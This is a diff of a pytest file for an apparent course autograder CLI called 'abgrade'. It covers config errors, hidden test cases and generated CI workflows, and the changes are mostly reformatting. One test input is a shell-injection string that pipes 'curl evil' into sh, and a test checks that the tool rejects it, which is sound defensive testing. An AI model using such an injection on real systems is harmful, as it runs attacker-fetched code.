@@ -2,6 +2,7 @@
 file:line errors), visible cases only (hidden and random ones never run or show), the
 summary and exit codes, JUnit XML, and the GitHub Actions workflow, whose `abgrade` step is
 run as written in a temporary course repository."""
+
 from __future__ import annotations
 
 import os
@@ -24,8 +25,12 @@ TREE_SUBMISSIONS = Path(__file__).resolve().parent / "fixtures" / "tree"
 CORRECT = TREE_SUBMISSIONS / "correct_fail_hard.py"
 STRICT_CUTOFF = TREE_SUBMISSIONS / "bug_strict_cutoff.py"
 # bug_strict_cutoff fails these visible tests of specs/tree.yaml (and passes the other 33).
-STRICT_CUTOFF_FAILURES = {"sibling-ties: nodes", "sibling-ties: pruned",
-                          "alpha-equals-beta: nodes", "alpha-equals-beta: pruned"}
+STRICT_CUTOFF_FAILURES = {
+    "sibling-ties: nodes",
+    "sibling-ties: pruned",
+    "alpha-equals-beta: nodes",
+    "alpha-equals-beta: pruned",
+}
 
 # A course spec with one visible and one hidden case, and random cases (after_published).
 # The submission below prints every node it is called on, so its output shows which cases ran.
@@ -51,17 +56,20 @@ cases:
     terminal_nodes: {secret_a: 7}
     expect: {value: 7, nodes: 2, pruned: []}
 """
-PRINTING = CORRECT.read_text().replace("    if node in terminal_nodes:", "    print('visit', node)\n"
-                                                                           "    if node in terminal_nodes:", 1)
+PRINTING = CORRECT.read_text().replace(
+    "    if node in terminal_nodes:", "    print('visit', node)\n    if node in terminal_nodes:", 1
+)
 
 
 def abgrade(*args: object, cwd: Path) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", "grader", *map(str, args)], capture_output=True, text=True,
-                          cwd=cwd, timeout=120)
+    return subprocess.run(
+        [sys.executable, "-m", "grader", *map(str, args)], capture_output=True, text=True, cwd=cwd, timeout=120
+    )
 
 
-def course_repo(root: Path, config: str | None = "labs:\n  tree: labs/tree.py\n",
-                submission: Path | str = CORRECT) -> Path:
+def course_repo(
+    root: Path, config: str | None = "labs:\n  tree: labs/tree.py\n", submission: Path | str = CORRECT
+) -> Path:
     """A course repository: labs/tree.py and, unless None, abgrade.yaml."""
     (root / "labs").mkdir(parents=True, exist_ok=True)
     text = submission.read_text() if isinstance(submission, Path) else submission
@@ -78,10 +86,12 @@ def junit_cases(path: Path) -> dict[str, ET.Element]:
 
 # --- the config file -------------------------------------------------------------------------
 
+
 def test_config_short_and_long_forms_resolve_paths_next_to_the_config(tmp_path: Path) -> None:
     config = tmp_path / "abgrade.yaml"
-    config.write_text("labs:\n  tree: labs/tree.ipynb\n  negamax:\n    submission: negamax.py\n"
-                      "    spec: specs/negamax.yaml\n")
+    config.write_text(
+        "labs:\n  tree: labs/tree.ipynb\n  negamax:\n    submission: negamax.py\n    spec: specs/negamax.yaml\n"
+    )
     assert load_config(config) == [
         LabEntry("tree", tmp_path / "labs" / "tree.ipynb"),
         LabEntry("negamax", tmp_path / "negamax.py", tmp_path / "specs" / "negamax.yaml"),
@@ -94,11 +104,14 @@ BAD_CONFIGS = [
     pytest.param("# nothing yet\nlabs:\n", 2, "labs: must map each lab", id="empty-labs"),
     pytest.param("labs: [tree]\n", 1, "labs: must map each lab", id="labs-list"),
     pytest.param("labs:\n  tree:\n    spec: s.yaml\n", 3, "labs.tree.submission: missing", id="no-submission"),
-    pytest.param("labs:\n  tree:\n    submission: a.py\n    sepc: s.yaml\n", 4,
-                 "labs.tree.sepc: unknown field; expected submission or spec", id="typo-in-field"),
+    pytest.param(
+        "labs:\n  tree:\n    submission: a.py\n    sepc: s.yaml\n",
+        4,
+        "labs.tree.sepc: unknown field; expected submission or spec",
+        id="typo-in-field",
+    ),
     pytest.param("labs:\n  tree: 3\n", 2, "labs.tree: must be the submission's path", id="number"),
-    pytest.param("labs:\n  tree:\n    submission: [a.py]\n", 3, "labs.tree.submission: must be a path",
-                 id="list-path"),
+    pytest.param("labs:\n  tree:\n    submission: [a.py]\n", 3, "labs.tree.submission: must be a path", id="list-path"),
     pytest.param("labs:\n  tree: a.py\n   negamax: b.py\n", 3, "yaml: invalid YAML", id="bad-indent"),
     pytest.param("- tree\n", 1, "config: must be a YAML mapping", id="not-a-mapping"),
 ]
@@ -141,6 +154,7 @@ def test_without_arguments_or_config_the_user_is_told_what_to_write(tmp_path: Pa
 
 # --- visible cases only ----------------------------------------------------------------------
 
+
 def test_hidden_and_random_cases_never_run_on_the_students_side(tmp_path: Path) -> None:
     spec = tmp_path / "course-tree.yaml"
     spec.write_text(SPEC_WITH_HIDDEN)
@@ -149,14 +163,15 @@ def test_hidden_and_random_cases_never_run_on_the_students_side(tmp_path: Path) 
     submission.write_text(PRINTING)
     report = check_lab(LabEntry("tree", submission, spec))
     assert "visit shown_root" in report.student_output
-    assert "secret" not in report.student_output       # the hidden case never ran
-    assert "visit a0" not in report.student_output     # nor a random one (their roots are a0)
+    assert "secret" not in report.student_output  # the hidden case never ran
+    assert "visit a0" not in report.student_output  # nor a random one (their roots are a0)
     assert {t.visibility for t in report.tests} == {"visible"}
     assert {t.case for t in report.tests} == {None, "shown"}
     assert report.score == report.max_score == 1 + 2 + 1 + 2 + 1 + 1
 
 
 # --- the command -----------------------------------------------------------------------------
+
 
 def test_check_passes_a_correct_submission_and_writes_junit(tmp_path: Path) -> None:
     repo = course_repo(tmp_path)
@@ -199,11 +214,15 @@ def test_check_reports_config_mistakes_with_their_line(tmp_path: Path) -> None:
     assert "Traceback" not in done.stderr
 
 
-@pytest.mark.parametrize("path, reason", [
-    ("labs/nothing.py", "no such file; give the path of your .py or .ipynb"),
-    ("labs", "is a folder; give the path of your .py or .ipynb file in it"),
-    ("labs/tree.txt", "not a .py or .ipynb file; give the path of your .py or .ipynb"),
-], ids=["missing", "folder", "txt"])
+@pytest.mark.parametrize(
+    "path, reason",
+    [
+        ("labs/nothing.py", "no such file; give the path of your .py or .ipynb"),
+        ("labs", "is a folder; give the path of your .py or .ipynb file in it"),
+        ("labs/tree.txt", "not a .py or .ipynb file; give the path of your .py or .ipynb"),
+    ],
+    ids=["missing", "folder", "txt"],
+)
 def test_check_of_a_path_that_is_not_a_submission_is_a_usage_error(tmp_path: Path, path: str, reason: str) -> None:
     (tmp_path / "labs").mkdir()
     (tmp_path / "labs" / "tree.txt").write_text("")
@@ -215,8 +234,11 @@ def test_check_of_a_path_that_is_not_a_submission_is_a_usage_error(tmp_path: Pat
 def test_student_output_goes_to_system_out_in_valid_xml(tmp_path: Path) -> None:
     spec = tmp_path / "course-tree.yaml"
     spec.write_text(SPEC_WITH_HIDDEN)
-    repo = course_repo(tmp_path, "labs:\n  tree: {submission: labs/tree.py, spec: course-tree.yaml}\n",
-                       PRINTING.replace("print('visit', node)", "print('visit', node, '\\x00\\x1b')"))
+    repo = course_repo(
+        tmp_path,
+        "labs:\n  tree: {submission: labs/tree.py, spec: course-tree.yaml}\n",
+        PRINTING.replace("print('visit', node)", "print('visit', node, '\\x00\\x1b')"),
+    )
     done = abgrade("check", "--junit", "r.xml", cwd=repo)
     assert done.returncode == 0, done.stdout + done.stderr
     system_out = ET.parse(repo / "r.xml").getroot().find("testsuite/system-out").text
@@ -235,6 +257,7 @@ def test_init_ci_writes_the_workflow_once(tmp_path: Path) -> None:
 
 
 # --- the GitHub Actions workflow ---------------------------------------------------------------
+
 
 def workflow_steps() -> list[dict]:
     workflow = yaml.safe_load(template_text("abgrade-check.yml"))
@@ -257,14 +280,14 @@ def test_workflow_checks_out_sets_up_python_installs_checks_and_uploads() -> Non
     assert "cancelled()" in steps[upload]["if"]  # uploaded when the check fails too
 
 
-@pytest.mark.parametrize("submission, code, failures", [(CORRECT, 0, 0), (STRICT_CUTOFF, 1, 4)],
-                         ids=["correct", "strict-cutoff"])
+@pytest.mark.parametrize(
+    "submission, code, failures", [(CORRECT, 0, 0), (STRICT_CUTOFF, 1, 4)], ids=["correct", "strict-cutoff"]
+)
 def test_workflow_check_step_runs_as_written(tmp_path: Path, submission: Path, code: int, failures: int) -> None:
     repo = course_repo(tmp_path, submission=submission)
     command = next(step["run"] for step in workflow_steps() if step.get("run", "").startswith("abgrade"))
     env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
-    done = subprocess.run(["bash", "-e", "-c", command], cwd=repo, env=env, capture_output=True, text=True,
-                          timeout=120)
+    done = subprocess.run(["bash", "-e", "-c", command], cwd=repo, env=env, capture_output=True, text=True, timeout=120)
     assert done.returncode == code, done.stdout + done.stderr
     suites = ET.parse(repo / "results.xml").getroot()
     assert suites.get("failures") == str(failures) and suites.get("tests") == "45"
@@ -272,25 +295,35 @@ def test_workflow_check_step_runs_as_written(tmp_path: Path, submission: Path, c
 
 # --- where the workflow gets abgrade from --------------------------------------------------------
 
+
 def workflow_env(path: Path) -> dict:
     return yaml.safe_load(path.read_text())["env"]
 
 
-@pytest.mark.parametrize("package", ["abgrade @ git+https://github.com/course/abgrade@v1.2.0",
-                                     "git+https://gitlab.example.edu/ai/abgrade.git@3f2c1d0",
-                                     "./ci/abgrade-1.2.0-py3-none-any.whl"])
+@pytest.mark.parametrize(
+    "package",
+    [
+        "abgrade @ git+https://github.com/course/abgrade@v1.2.0",
+        "git+https://gitlab.example.edu/ai/abgrade.git@3f2c1d0",
+        "./ci/abgrade-1.2.0-py3-none-any.whl",
+    ],
+)
 def test_init_ci_writes_the_package_source_given(tmp_path: Path, package: str) -> None:
     done = abgrade("check", "--init-ci", "--package", package, cwd=tmp_path)
     assert done.returncode == 0, done.stderr
     assert workflow_env(tmp_path / ".github" / "workflows" / "abgrade-check.yml") == {"ABGRADE_PACKAGE": package}
 
 
-@pytest.mark.parametrize("package, problem", [
-    ("abgrade", "a name on the package index, which is not a source your course controls"),
-    ("abgrade==1.2.0", "a name on the package index, which is not a source your course controls"),
-    ("abgrade @ git+https://github.com/course/abgrade", "a git URL without a tag or commit"),
-    ('x"; curl evil|sh; "', "not a pip requirement"),
-], ids=["bare-name", "pinned-name", "unpinned-git", "quotes"])
+@pytest.mark.parametrize(
+    "package, problem",
+    [
+        ("abgrade", "a name on the package index, which is not a source your course controls"),
+        ("abgrade==1.2.0", "a name on the package index, which is not a source your course controls"),
+        ("abgrade @ git+https://github.com/course/abgrade", "a git URL without a tag or commit"),
+        ('x"; curl evil|sh; "', "not a pip requirement"),
+    ],
+    ids=["bare-name", "pinned-name", "unpinned-git", "quotes"],
+)
 def test_init_ci_refuses_sources_the_course_does_not_control(tmp_path: Path, package: str, problem: str) -> None:
     done = abgrade("check", "--init-ci", "--package", package, cwd=tmp_path)
     assert done.returncode == 2 and done.stderr.startswith(f"abgrade: --package {package}: {problem}")
@@ -306,11 +339,24 @@ def test_the_workflow_as_generated_never_installs_from_the_package_index(tmp_pat
     fake_python = tmp_path / "python"
     fake_python.write_text("#!/bin/sh\necho pip was called\n")
     fake_python.chmod(0o755)
-    done = subprocess.run(["bash", "-e", "-c", install], capture_output=True, text=True, timeout=30,
-                          env={**os.environ, **env, "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}"})
+    done = subprocess.run(
+        ["bash", "-e", "-c", install],
+        capture_output=True,
+        text=True,
+        timeout=30,
+        env={**os.environ, **env, "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}"},
+    )
     assert done.returncode == 1 and "pip was called" not in done.stdout
     assert done.stdout.startswith("::error::ABGRADE_PACKAGE is not set: write where pip gets abgrade")
-    ok = subprocess.run(["bash", "-e", "-c", install], capture_output=True, text=True, timeout=30,
-                        env={**os.environ, "ABGRADE_PACKAGE": "./ci/abgrade.whl",
-                             "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}"})
+    ok = subprocess.run(
+        ["bash", "-e", "-c", install],
+        capture_output=True,
+        text=True,
+        timeout=30,
+        env={
+            **os.environ,
+            "ABGRADE_PACKAGE": "./ci/abgrade.whl",
+            "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}",
+        },
+    )
     assert (ok.returncode, ok.stdout) == (0, "pip was called\n")
